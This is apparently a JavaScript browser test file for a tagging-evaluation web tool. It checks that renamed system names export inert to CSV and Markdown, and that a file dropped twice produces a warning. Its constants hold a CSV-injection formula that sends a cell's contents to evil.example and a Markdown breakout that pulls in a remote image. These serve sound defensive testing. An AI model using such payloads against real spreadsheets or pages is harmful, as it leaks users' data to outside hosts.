// Names chosen to act where the page's output lands: a system renamed to a spreadsheet
// formula, or to text that closes a Markdown code span to let a remote image in, is written
// inert by the core's exports (the rules tests/c/test_tables.c holds); a file dropped twice is
// said, in the warnings and in the check of reported numbers.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { download, evaluateAndWait, useBrowser, waitForResult } from './harness.mjs';

const env = useBrowser();

const FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"x")';
const BREAKOUT = 'x` ![p](http://evil.example/md.png) `y';

async function rename(page, from, to) {
  await page.getByRole('button', { name: `Rename ${from}` }).click();
  const field = page.getByRole('textbox', { name: `New name for ${from}` });
  await field.fill(to);
  await field.press('Enter');
}

test('hostile system names are exported inert, as CSV and Markdown', async () => {
  const { page } = await env.open();
  await waitForResult(page);
  await rename(page, 'brown-c50.tsv', FORMULA);
  await rename(page, 'brown-c50-d3.tsv', BREAKOUT);
  await evaluateAndWait(page, BREAKOUT);

  await page.getByTestId('export-format').selectOption('csv');
  const csv = (await download(page, () => page.getByTestId('export-download').click())).text;
  const first = csv.split('\n').slice(1).map((line) => line.slice(0, 20));
  // A leading apostrophe: the spreadsheet shows the cell as text, never runs it.
  assert.ok(first.includes('"\'=HYPERLINK(""http:'), first.join(' | '));
  assert.ok(!csv.split('\n').some((line) => line.startsWith('=')), csv);

  await page.getByTestId('export-format').selectOption('markdown');
  const md = (await download(page, () => page.getByTestId('export-download').click())).text;
  // The name sits whole in a span fenced by two backticks: its single ones cannot close it.
  assert.ok(md.includes(`| \`\`${BREAKOUT}\`\` |`), md);
});

test('a file dropped twice is said in the warnings', async () => {
  const { page } = await env.open();
  await waitForResult(page);
  const systems = page.getByTestId('system-input');
  const gold = page.getByTestId('gold-input');
  const tagged = (name, text) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });
  await gold.setInputFiles(tagged('g.tsv', 'a\tX\nb\tY\n\nc\tX\nd\tY\n'));
  await page.getByRole('region', { name: 'Systems' }).getByRole('button', { name: /^Remove / }).first().click();
  await page.getByRole('region', { name: 'Systems' }).getByRole('button', { name: /^Remove / }).first().click();
  const twin = tagged('twin.tsv', 'a\t1\nb\t2\n\nc\t1\nd\t2\n');
  await systems.setInputFiles(twin);
  await systems.setInputFiles(twin);
  await evaluateAndWait(page, 'twin.tsv');
  const warnings = page.getByTestId('warnings');
  await warnings.waitFor();
  assert.match(await warnings.textContent(), /systems 1, 2 are all named 'twin\.tsv'/);
});
